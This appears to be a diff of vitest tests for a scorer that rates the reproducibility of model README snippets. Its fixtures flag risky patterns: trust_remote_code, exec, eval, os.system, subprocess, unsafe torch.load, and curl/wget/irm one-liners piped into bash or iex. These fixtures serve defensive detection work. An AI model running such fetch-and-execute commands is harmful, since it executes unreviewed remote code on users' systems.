@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { reproducibility } from "../../../src/trust/metrics/reproducibility.ts";
-import { ABSENT, DOWN, evidence, files, found, inputs, score } from "./evidence.ts";
+import { ABSENT, BROKEN, DOWN, evidence, files, found, inputs, score } from "./evidence.ts";
 
 const FILES = files("config.json", "model.safetensors", "tokenizer.json");
 const py = (code: string) => `# Usage\n\`\`\`python\n${code}\n\`\`\`\n`;
@@ -18,6 +18,13 @@ describe("reproducibility is 1", () => {
     ["a doctest", py('>>> from transformers import pipeline\n>>> pipeline("x", model="acme/owl")')],
     ["a command", "```sh\nvllm serve acme/owl\n```"],
     ["an id with address and quantisation", "```\nollama run hf.co/acme/owl:Q4_K_M\n```"],
+    ["indented code", `Usage:\n\n${LOAD.replace(/^/gm, "    ")}\n`],
+    ["a download into a file", "```\nollama run acme/owl\ncurl -o a.json https://x.test/a.json\n```"],
+    ["a plain False", py(LOAD.replace(")", ", trust_remote_code=False)"))],
+    ["safe loading", py(`${LOAD}\nimport torch\ntorch.load("x.pt", weights_only=True)`)],
+    ["methods called eval and compile", py(`${LOAD}\nmodel.eval()\nmodel = torch.compile(model)`)],
+    ["inputs that are spread", py(`${LOAD}\nmodel(**inputs)\nmodel.generate(**inputs, max_new_tokens=9)`)],
+    ["powers in an argument", py(LOAD.replace(")", ", size=2 ** 3)"))],
     ["a prompt that says 'your'", py(`${LOAD}\nprint("What is your name?")`)],
     ["special tokens", py(`${LOAD}\nprompt = "<bos><|user|>"`)],
     ["one clear snippet beside a worse one", py(LOAD) + py(LOAD.replace("acme/owl", "your-name/owl"))],
@@ -30,6 +37,11 @@ describe("reproducibility is 1", () => {
     expect(of(readme, { source: "google-bert/bert-base-uncased" })).toBe(1);
     expect(of(readme, { source: "acme/bert-base-uncased" })).toBe(0.5);
     expect(of(py(LOAD.replace("acme/owl", "ctrl")), { source: "Salesforce/ctrl" })).toBe(1);
+  });
+
+  it("for a model whose terms anybody can accept", () => {
+    expect(of(py(LOAD), { record: { files: FILES, gated: true, gate: "auto" } })).toBe(1);
+    expect(of(py(LOAD), { record: { files: FILES, gated: true, gate: "auto", disabled: true } })).toBe(0.5);
   });
 
   it("for an adapter without a config of its own", () => {
@@ -52,6 +64,25 @@ describe("reproducibility is .5", () => {
     ["a placeholder beside this id", py(`${LOAD}\nimage = "path/to/image.png"`)],
     ["remote code", py(LOAD.replace(")", ", trust_remote_code = True)"))],
     ["remote code on the command line", "```\nvllm serve acme/owl --trust-remote-code\n```"],
+    ["remote code by 1", py(LOAD.replace(")", ", trust_remote_code=1)"))],
+    ["remote code by a variable", py(LOAD.replace(")", ", trust_remote_code=yes)"))],
+    ["remote code over two lines", py(LOAD.replace(")", ",\n    trust_remote_code\n    =\n    True)"))],
+    ["remote code in a dictionary", py(`${LOAD}\noptions = {"trust_remote_code": True}`)],
+    ["remote code by a key", py(`${LOAD}\noptions["trust_remote_code"] = True`)],
+    ["keywords from a variable", py(LOAD.replace(")", ", **options)"))],
+    ["keywords from a dictionary", py(LOAD.replace(")", ', **{"trust_" + "remote_code": 1})'))],
+    ["exec", py(`${LOAD}\nexec(open("x").read())`)],
+    ["eval", py(`${LOAD}\nprint(eval (text))`)],
+    ["an import by name", py(`${LOAD}\n__import__("os").system("ls")`)],
+    ["a shell", py(`${LOAD}\nimport os\nos.system("sh x")`)],
+    ["a process", py(`${LOAD}\nimport subprocess\nsubprocess.run(["sh"])`)],
+    ["a pickle on purpose", py(`${LOAD}\nimport torch\ntorch.load("x.pt", weights_only=False)`)],
+    ["a custom pipeline", py(LOAD.replace(")", ', custom_pipeline="acme/pipe")'))],
+    ["a download of code", py(`${LOAD}\nhf_hub_download("acme/owl", filename="loader.py")`)],
+    ["a download piped to a shell", "```\nollama run acme/owl\ncurl -s https://x.test/i | bash\n```"],
+    ["a shell of a download", "```\nollama run acme/owl\nbash <(curl -s https://x.test/i)\n```"],
+    ["a shell that is told a download", '```\nollama run acme/owl\nsh -c "$(wget -O- https://x.test/i)"\n```'],
+    ["PowerShell of a download", "```\nollama run acme/owl\nirm https://x.test/i.ps1 | iex\n```"],
     ["demo code without a loader", py("import owl\nowl.run()")],
     ["a tokenizer that is missing", py(`${LOAD}\nAutoProcessor.from_pretrained("acme/owl")`)],
     ["an unknown library", py('import owl_lib\nowl_lib.load_model("acme/owl")')],
@@ -61,6 +92,17 @@ describe("reproducibility is .5", () => {
 
   it.each([
     ["a gated model", { record: { files: FILES, gated: true } }],
+    ["a gate that a person opens", { record: { files: FILES, gated: true, gate: "manual" as const } }],
+    [
+      "a script of the repository beside it",
+      { record: { files: [...FILES, ...files("tools/run_owl.py")] }, readme: py(`${LOAD}\nrun_owl.py`) },
+    ],
+    [
+      "custom code in another configuration",
+      { configs: [{ path: "tokenizer_config.json", hooks: found(["auto_map"]) }] },
+    ],
+    ["a configuration that cannot be read", { config: BROKEN }],
+    ["another configuration that cannot be read", { configs: [{ path: "processor_config.json", hooks: BROKEN }] }],
     ["missing weights", { record: { files: files("config.json", "tokenizer.json") } }],
     ["a missing configuration", { record: { files: files("model.safetensors") } }],
     ["custom code in the configuration", { config: found({ auto_map: { AutoModel: "modeling.Owl" } }) }],
@@ -93,6 +135,7 @@ describe("reproducibility is unavailable", () => {
     expect(of(py(LOAD), { config: DOWN })).toBe("unavailable: config.json: timed out");
     expect(of(py(LOAD), { config: ABSENT })).toBe(1);
     expect(of("no code", { record: DOWN })).toBe(0);
+    expect(score(reproducibility(evidence({ readme: BROKEN })))).toBe(0);
   });
 });
 
@@ -108,6 +151,12 @@ describe("hostile code", () => {
     "filename='",
     "import a\n",
     "trust_remote_code ",
+    "from_pretrained(",
+    "from_pretrained(**",
+    "curl |",
+    "curl x",
+    "subprocess.",
+    "exec ",
   ])("of two megabytes of %j is read", (piece) => {
     const start = Date.now();
     of(py(piece.repeat((2 * 1024 * 1024) / piece.length)));
